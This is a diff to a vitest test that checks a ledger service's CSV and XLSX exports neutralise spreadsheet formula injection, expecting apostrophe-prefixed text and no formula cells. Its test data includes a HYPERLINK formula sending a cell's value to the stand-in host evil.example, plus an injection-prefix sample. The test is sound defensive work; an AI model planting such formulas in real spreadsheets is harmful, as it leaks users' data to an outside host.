@@ -2,6 +2,7 @@ import { expect, test } from "vitest";
 import type { Item } from "#domain/item.ts";
 import { ask, serve } from "../serve.ts";
 import { parseCsv, tableOf } from "./parse-csv.ts";
+import { readXlsx, tableOfSheet } from "./read-xlsx.ts";
 
 const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"口岸")';
 
@@ -21,6 +22,15 @@ test("a record that begins like a formula is text in the file, and itself in Geo
   const csv = await ask(`${served.url}/export/ledger.csv`);
   const found = tableOf(parseCsv(csv.text)).find((one) => one.编号 === "S-1.4-15");
   expect(found).toMatchObject({ 事项: `'${FORMULA}`, 备注: "'-2+3\r\n@x" });
+  const sheets = await readXlsx((await ask(`${served.url}/export/ledger.xlsx`)).body);
+  expect(sheets.flatMap((sheet) => tableOfSheet(sheet)).find((one) => one.编号 === "S-1.4-15")).toMatchObject(
+    {
+      事项: `'${FORMULA}`,
+      备注: expect.stringMatching(/^'-2\+3\s+@x$/),
+    },
+  );
+  const cells = sheets.flatMap((sheet) => sheet.rows.flat());
+  expect(cells.filter((cell) => cell?.type === "formula")).toEqual([]);
   const geojson = JSON.parse((await ask(`${served.url}/export/ledger.geojson`)).text) as {
     features: { id: string; properties: { title: string } }[];
   };
